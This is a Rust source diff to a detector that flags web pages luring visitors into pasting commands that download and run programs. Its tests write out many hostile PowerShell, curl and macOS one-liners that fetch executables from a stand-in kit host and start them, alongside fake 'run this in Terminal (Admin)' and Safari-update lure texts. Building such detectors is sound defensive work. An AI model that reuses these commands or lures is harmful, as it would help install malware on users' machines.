@@ -437,7 +437,7 @@ fn spans(flat: &str) -> Vec<(usize, &str)> {
 /// The program name of a token: `C:\Windows\System32\mshta.exe` → `mshta`.
 #[inline(never)]
 fn program(tok: &str) -> &str {
-    let base = tok.rsplit(['\\', '/']).next().unwrap_or(tok);
+    let base = base_name(tok);
     base.strip_suffix(".exe").unwrap_or(base)
 }
 
@@ -452,12 +452,14 @@ fn has(hay: &str, needle: &str) -> bool {
 #[inline(never)]
 fn has_word(flat: &str, word: &str) -> bool {
     let b = flat.as_bytes();
-    flat.match_indices(word).any(|(i, _)| {
-        let before = i.checked_sub(1).map(|j| b[j]);
-        let after = b.get(i + word.len()).copied();
-        !before.is_some_and(|x| x.is_ascii_alphanumeric())
-            && !after.is_some_and(|x| x.is_ascii_alphanumeric())
-    })
+    // (An empty word would match at every border.)
+    !word.is_empty()
+        && flat.match_indices(word).any(|(i, _)| {
+            let before = i.checked_sub(1).map(|j| b[j]);
+            let after = b.get(i + word.len()).copied();
+            !before.is_some_and(|x| x.is_ascii_alphanumeric())
+                && !after.is_some_and(|x| x.is_ascii_alphanumeric())
+        })
 }
 
 fn has_url(flat: &str) -> bool {
@@ -494,9 +496,26 @@ fn bare_host(t: &str) -> Option<&str> {
 /// `?u=https%3a%2f%2f…`): review 31 MAIN-M2. `addr` is the address after its scheme.
 #[inline(never)]
 fn borrowed(addr: &str) -> bool {
-    ["/wp-", "/upload", "/sites/default/files/", "://", "%2f%2f"]
-        .iter()
-        .any(|w| has(addr, w))
+    [
+        "/wp-",
+        "/upload",
+        "/sites/default/files/",
+        "://",
+        "%2f%2f",
+        // Folders named for what a site shows or runs itself, not for programs it hands out
+        // (review 32 CF32-M2): a vendor never keeps its installer among its images or styles.
+        "/images/",
+        "/img/",
+        "/css/",
+        "/js/",
+        "/fonts/",
+        "/icons/",
+        "/media/",
+        "/cgi-bin/",
+        "/.well-known/",
+    ]
+    .iter()
+    .any(|w| has(addr, w))
         || addr
             .bytes()
             .enumerate()
@@ -630,8 +649,9 @@ fn dns_payload(flat: &str) -> bool {
 }
 
 /// Shells (the first six) and interpreters: what runs a program given to it on a pipe or as a
-/// file; the last two run only a file (`awk -f FILE`, `installer -pkg FILE`: a macOS package's
-/// scripts run as root), never what a pipe gives them (`| awk '{print $1}'` reads data).
+/// file; the last three run only a file (`awk -f FILE`, `installer -pkg FILE`: a macOS package's
+/// scripts run as root; `open FILE`: a saved app or disk image, review 32 CF32-M3), never what a
+/// pipe gives them (`| awk '{print $1}'` reads data).
 const RUNNERS: &[&str] = &[
     "sh",
     "bash",
@@ -649,6 +669,7 @@ const RUNNERS: &[&str] = &[
     "source",
     "awk",
     "installer",
+    "open",
 ];
 
 /// A shell follows a pipe (`| sh`, `|sudo bash -s`, `| python3`). An interpreter that runs the
@@ -660,7 +681,7 @@ fn piped_to_shell(flat: &str) -> bool {
         let name = args
             .find(|t| *t != "sudo" && !t.starts_with('-'))
             .map_or("", program);
-        match RUNNERS[..RUNNERS.len() - 2].iter().position(|s| *s == name) {
+        match RUNNERS[..RUNNERS.len() - 3].iter().position(|s| *s == name) {
             None => false,
             Some(i) if i < 6 => true,
             // Data only for `json.tool` among its leading options (`-u -m json.tool`,
@@ -724,27 +745,110 @@ fn runs_saved(flat: &str) -> bool {
     })
 }
 
-/// A download saved to a Windows path (`-o %TEMP%\\x.exe`, `--output C:\\…`) and then started:
-/// `start`/`Start-Process`, or the saved path run as a later command.
-fn saves_and_starts(toks: &[&str]) -> bool {
-    let saved = toks.windows(2).enumerate().find_map(|(i, w)| {
-        matches!(w[0], "-o" | "--output" | "--output-document" | "-outfile")
-            .then_some((i + 2, w[1]))
-    });
-    let Some((next, path)) = saved else {
-        return false;
-    };
-    let windows_path = path.contains(['\\', '%'])
-        || path.starts_with("$env:")
-        || [
-            ".exe", ".msi", ".bat", ".cmd", ".scr", ".hta", ".vbs", ".ps1",
-        ]
-        .iter()
-        .any(|e| path.ends_with(e));
-    let started = toks[next.min(toks.len())..]
-        .iter()
-        .any(|t| matches!(program(t), "start" | "start-process" | "saps") || *t == path);
-    windows_path && started
+/// A download saved to a Windows path and that same file run later on the line (review 32
+/// CF32-M3: the shape, whatever the words). Saved: after an output flag (`-OutFile`, any prefix
+/// of it, `-o`, curl's joined `-Lo`/`-sLo`, `--output[=]`, `-Destination`, `>`), as the path after
+/// the address (`certutil … URL FILE`, `DownloadFile(URL, FILE)`, `Start-BitsTransfer URL FILE`)
+/// or the address's own last part (`curl -O URL`). Run: named by its last path part where a
+/// command starts (`; .\r.exe`, `&& %TEMP%\r.exe`, `& "$env:TEMP\r.exe"`, a new line) or after a
+/// launcher in its command (`start`, `Start-Process`, `saps`, `ii`, `msiexec /i`, `rundll32`,
+/// `cmd /c`, `powershell -f` …); after an archive is unpacked, any program run so.
+#[inline(never)]
+fn saves_then_runs(flat: &str) -> bool {
+    let b = flat.as_bytes();
+    let toks = spans(flat);
+    // The last four files saved (a space where none: no word is one).
+    let mut saved = [" "; 4];
+    let mut count = 0;
+    let mut unpacked = false;
+    // The word that names a file saved is not its run.
+    let mut named = 0;
+    for (i, &(at, t)) in toks.iter().enumerate() {
+        if i == named && i > 0 {
+            continue;
+        }
+        let (next_at, next) = toks.get(i + 1).copied().unwrap_or((flat.len(), ""));
+        // The next word is in the same command (no `|`, `;` or `&` between).
+        let joined = !b[at + t.len()..next_at].iter().any(|c| b"|;&".contains(c));
+        let address = has(t, "://") || bare_host(t).is_some();
+        let flag = t.strip_prefix('-').unwrap_or("");
+        let (flag, value) = flag.split_at(
+            flag.bytes()
+                .position(|c| c == b'=' || c == b':')
+                .unwrap_or(flag.len()),
+        );
+        let value = value.get(1..).unwrap_or("");
+        let out_flag = !flag.is_empty()
+            && (flag.len() > 1 && "outfile".starts_with(flag)
+                || has_word("-output -output-document destination", flag)
+                || flag.len() < 6
+                    && flag.ends_with('o')
+                    && flag.bytes().all(|c| c.is_ascii_lowercase()));
+        let gt = t.bytes().take_while(|&c| c == b'>').count();
+        // The file's path, and how many words on it names (its run is further on).
+        let (path, on) = if out_flag && !value.is_empty() {
+            (value, 0)
+        } else if out_flag && joined || gt == t.len() {
+            (next, 1)
+        } else if gt > 0 {
+            (&t[gt..], 0)
+        } else if address && joined && !matches!(next.bytes().next(), Some(b'-' | b'/')) {
+            (next, 1)
+        } else {
+            ("", 0)
+        };
+        // A Windows path, a PowerShell variable holding one (`-OutFile $p; & $p`), a program or
+        // an archive to unpack.
+        if path.bytes().any(|c| c == b'\\' || c == b'%')
+            || path.starts_with('$')
+            || path.ends_with(".zip")
+            || runnable(path)
+        {
+            saved[count % 4] = base_name(path);
+            count += 1;
+            named = i + on;
+            continue;
+        }
+        if count == 0 || address {
+            continue;
+        }
+        let p = program(t);
+        unpacked |= has_word("expand-archive unzip 7z tar", p);
+        // The command this word is in starts after the last `;`, `&`, `|`, `(` or `{` before it:
+        // run as its first word, or after a launcher.
+        let cmd = b[..at]
+            .iter()
+            .rposition(|c| b";&|({".contains(c))
+            .map_or(0, |c| c + 1);
+        let launched = b[cmd..at].iter().all(|&c| c == b' ')
+            || toks[..i].iter().any(|&(a, l)| {
+                a >= cmd
+                    && has_word(
+                        "start start-process saps ii invoke-item msiexec rundll32 regsvr32 mshta \
+                         wscript cscript cmd call powershell pwsh explorer .",
+                        program(l),
+                    )
+            });
+        let n = base_name(t);
+        if launched && (saved.contains(&n) || unpacked && runnable(n)) {
+            return true;
+        }
+    }
+    false
+}
+
+/// A path to a file Windows runs when it is opened ([`RUNNABLE`]).
+#[inline(never)]
+fn runnable(path: &str) -> bool {
+    RUNNABLE.iter().any(|e| path.ends_with(e))
+}
+
+/// The last part of a path (`$env:TEMP\r.exe`, `https://host/r.exe` → `r.exe`).
+#[inline(never)]
+fn base_name(t: &str) -> &str {
+    &t[t.bytes()
+        .rposition(|c| c == b'\\' || c == b'/')
+        .map_or(0, |i| i + 1)..]
 }
 
 /// Shapes in the flattened text.
@@ -774,7 +878,8 @@ fn shapes(flat: &str) -> Vec<Shape> {
     ]
     .iter()
     .any(|w| has_word(flat, w));
-    if ps_fetch && (ps_exec || ps || has_word(flat, "start-process")) || (ps || ps_fetch) && ps_exec
+    if ps_fetch && (ps_exec || ps || has_word(flat, "start-process") || saves_then_runs(flat))
+        || (ps || ps_fetch) && ps_exec
     {
         out.push(Shape::PowerShellDownload);
     }
@@ -862,7 +967,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
     if prog("bitsadmin") && (has(flat, "/transfer") || has(flat, "/addfile")) {
         out.push(Shape::Bitsadmin);
     }
-    if (prog("curl") || prog("wget")) && has_url(flat) && saves_and_starts(&toks) {
+    if (prog("curl") || prog("wget")) && has_url(flat) && saves_then_runs(flat) {
         out.push(Shape::DownloadStart);
     }
     // The whole text is a path (or `explorer`/`start` and a path) to a share outside the
@@ -874,7 +979,7 @@ fn shapes(flat: &str) -> Vec<Shape> {
         .is_some_and(|t| matches!(program(t), "explorer" | "start"));
     let path = toks.get(usize::from(opener)).copied().unwrap_or("");
     let host = share_host(path);
-    let runnable = RUNNABLE.iter().any(|e| path.ends_with(e));
+    let runnable = runnable(path);
     let lure_share = host.contains('@') || has(path, "davwwwroot") || ip_host(host) || runnable;
     // The Run box passes what follows a program to it: `\\ip\pub\check.exe # I am not a robot`.
     if path.starts_with("\\\\")
@@ -1042,8 +1147,9 @@ fn published(flat: &str, windows: bool) -> bool {
     }
     tokens(flat).iter().all(|t| {
         let Some(i) = t.find("://") else {
-            // No scheme: PowerShell fetches it over http (review 31 MAIN-M1).
-            return !windows || bare_host(t).is_none();
+            // No scheme: PowerShell fetches it over http (review 31 MAIN-M1), from a host name
+            // or a public IP (`203.0.113.22/r.exe`: review 32 k22).
+            return !windows || bare_host(t).is_none() && !(has(t, "/") && public_ip_arg(&[t]));
         };
         let rest = &t[i + 3..];
         let (host, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
@@ -4291,6 +4397,156 @@ mod tests {
             ),
         ] {
             assert_eq!(reasons(&snap_of(url, "", text, "")), None, "{text}");
+        }
+    }
+
+    #[test]
+    fn a_download_saved_then_run_in_any_form() {
+        // Review 32 CF32-M3: the shape is a download saved to a path and that same path run,
+        // however a kit words either half (invented commands; kit host cdn.relay-files.test).
+        for clip in [
+            "iwr https://cdn.relay-files.test/r.exe -OutFile r.exe; .\\r.exe",
+            "irm https://cdn.relay-files.test/r -OutFile $env:TEMP\\r.exe; ii $env:TEMP\\r.exe",
+            "iwr https://cdn.relay-files.test/r -OutFile \"$env:TEMP\\r.exe\"; & \"$env:TEMP\\r.exe\"",
+            "iwr https://cdn.relay-files.test/r -o $env:TEMP\\r.exe; saps $env:TEMP\\r.exe",
+            "Invoke-WebRequest https://cdn.relay-files.test/r -OutFile:$env:APPDATA\\r.scr; & $env:APPDATA\\r.scr",
+            "iwr https://cdn.relay-files.test/r -OutFile C:\\Users\\Public\\r.exe; C:\\Users\\Public\\r.exe",
+            "$p=\"$env:TEMP\\r.exe\"; iwr https://cdn.relay-files.test/r -OutFile $p; & $p",
+            "Start-BitsTransfer https://cdn.relay-files.test/r $env:TEMP\\r.exe; & $env:TEMP\\r.exe",
+            "(New-Object Net.WebClient).DownloadFile('https://cdn.relay-files.test/r', 'C:\\Users\\Public\\r.exe'); . C:\\Users\\Public\\r.exe",
+            "iwr https://cdn.relay-files.test/r.dll -OutFile $env:TEMP\\r.dll; rundll32 $env:TEMP\\r.dll,Start",
+            "iwr https://cdn.relay-files.test/r.zip -OutFile r.zip; Expand-Archive r.zip; .\\r\\r.exe",
+            "iwr cdn.relay-files.test/s.bat -OutFile $env:TEMP\\s.bat; cmd /c $env:TEMP\\s.bat",
+        ] {
+            assert!(
+                shapes_of(clip).contains(&Shape::PowerShellDownload),
+                "{clip}: {:?}",
+                shapes_of(clip)
+            );
+        }
+        for clip in [
+            "curl.exe -Lo $env:TEMP\\r.exe https://cdn.relay-files.test/r; Start-Process $env:TEMP\\r.exe",
+            "curl -sLo %TEMP%\\r.exe https://cdn.relay-files.test/r && start /b %TEMP%\\r.exe",
+            "curl.exe --output=$env:TEMP\\r.exe https://cdn.relay-files.test/r; & $env:TEMP\\r.exe",
+            "cmd /c curl -s https://cdn.relay-files.test/s > %TEMP%\\s.bat && %TEMP%\\s.bat",
+            "pushd %TEMP% & curl -O https://cdn.relay-files.test/r.exe & r.exe",
+            "cmd /c curl -Lo %TEMP%\\a.msi https://cdn.relay-files.test/a.msi && msiexec /i %TEMP%\\a.msi /qn",
+        ] {
+            assert!(
+                shapes_of(clip).contains(&Shape::DownloadStart),
+                "{clip}: {:?}",
+                shapes_of(clip)
+            );
+        }
+        // Saved and not run, or run as data; a Unix download is not a Windows start.
+        for clip in [
+            "iwr https://x.example/tool.exe -OutFile tool.exe; Get-FileHash tool.exe",
+            "curl.exe -Lo %TEMP%\\report.csv https://x.example/r.csv",
+            "cmd /c curl -o x.exe https://x.example/x.exe",
+            "curl -LO https://x.example/tool && chmod +x tool && ./tool version",
+        ] {
+            let s = shapes_of(clip);
+            assert!(
+                !s.contains(&Shape::DownloadStart) && !s.contains(&Shape::PowerShellDownload),
+                "{clip}: {s:?}"
+            );
+        }
+        // A hacked site's lure with install words (en, de) and a public IP with no scheme.
+        let text = "Our menu opens in the Harbor Reader. Install the Harbor Reader for Windows.\n\
+                    Press Win+X and choose Terminal (Admin), then run the following command:\n{c}\nCopy";
+        for c in [
+            "iwr https://cdn.relay-files.test/r.exe -OutFile r.exe; .\\r.exe",
+            "curl.exe -sLo $env:TEMP\\r.exe https://cdn.relay-files.test/r; & $env:TEMP\\r.exe",
+            "iwr 203.0.113.22/r.exe -OutFile $env:TEMP\\r.exe; Start-Process $env:TEMP\\r.exe",
+        ] {
+            let s = snap_of(
+                "https://harbor-diner.example/menu",
+                "Menu",
+                &text.replace("{c}", c),
+                c,
+            );
+            assert!(reasons(&s).is_some(), "{c}");
+        }
+        // The vendor's own pages stay documentation (a curl download run is not, from any site: a
+        // kit on a broken-into site serves it from the site's root too, review 33 m42-m44).
+        for (url, c) in [
+            (
+                "https://www.outilpro.example/telecharger",
+                "iwr https://www.outilpro.example/telechargement/OutilPro.exe -OutFile $env:TEMP\\OutilPro.exe; & $env:TEMP\\OutilPro.exe",
+            ),
+            (
+                "https://docs.tern-cli.example/install/windows",
+                "iwr https://get.tern-cli.example/install.ps1 -OutFile install.ps1; .\\install.ps1",
+            ),
+            (
+                "https://pixelmint.example/download",
+                "iwr https://pixelmint.example/static/releases/PixelMint.exe -OutFile $env:TEMP\\PixelMint.exe; Start-Process $env:TEMP\\PixelMint.exe",
+            ),
+        ] {
+            let t = format!(
+                "Install for Windows\nPress Win+X and choose Terminal (Admin), then run the following command:\n{c}\nCopy"
+            );
+            assert_eq!(reasons(&snap_of(url, "Download", &t, c)), None, "{c}");
+        }
+        let c = "curl -o %TEMP%\\r.exe https://harbor-diner.example/r.exe && %TEMP%\\r.exe";
+        let s = snap_of(
+            "https://harbor-diner.example/menu",
+            "Menu",
+            &text.replace("{c}", c),
+            c,
+        );
+        assert!(reasons(&s).is_some(), "{c}");
+        // A Mac update lure that keeps its disk image off the page; docs that show theirs.
+        let c = "curl -fsSLo /tmp/SafariUpdate.dmg https://cdn.relay-files.test/s.dmg && open /tmp/SafariUpdate.dmg";
+        let lure =
+            "Your Safari version is out of date.\nTo install the update: press Cmd+Space, type \
+                    Terminal, press Enter, paste with Cmd+V and press Return.";
+        assert!(reasons(&snap_of("https://news-harbor.example/a", "News", lure, c)).is_some());
+        let c = "curl -Lo /tmp/Ledgerly.dmg https://ledgerly.example/download/Ledgerly.dmg && open /tmp/Ledgerly.dmg";
+        let docs = format!("Download Ledgerly for macOS\nOr from Terminal: press Cmd+Space, type Terminal, and paste:\n{c}\nCopy");
+        assert_eq!(
+            reasons(&snap_of(
+                "https://ledgerly.example/mac",
+                "Ledgerly",
+                &docs,
+                c
+            )),
+            None
+        );
+    }
+
+    #[test]
+    fn a_sites_image_style_and_script_folders_hold_no_installer() {
+        // Review 32 CF32-M2: a program fetched from the page's own site through a folder named for
+        // its images, styles, scripts, media or server scripts is what a kit on a broken-into
+        // site put there; a release or static folder, the root, a subdomain stay the site's.
+        let text = "Install the Harbor Reader for Windows.\nPress Win+X and choose Terminal \
+                    (Admin), then run the following command:\n{c}\nCopy";
+        let run = |path: &str| {
+            let c = format!(
+                "iwr https://harbor-diner.example{path}/HarborReader.exe -OutFile \
+                 $env:TEMP\\HarborReader.exe; Start-Process $env:TEMP\\HarborReader.exe"
+            );
+            reasons(&snap_of(
+                "https://harbor-diner.example/menu",
+                "Menu",
+                &text.replace("{c}", &c),
+                &c,
+            ))
+        };
+        for path in [
+            "/images",
+            "/img/menu",
+            "/js/vendor",
+            "/css",
+            "/media/system",
+            "/cgi-bin",
+            "/.well-known",
+        ] {
+            assert!(run(path).is_some(), "{path}");
+        }
+        for path in ["", "/download", "/static/releases", "/releases/2.4"] {
+            assert_eq!(run(path), None, "{path}");
         }
     }
 }
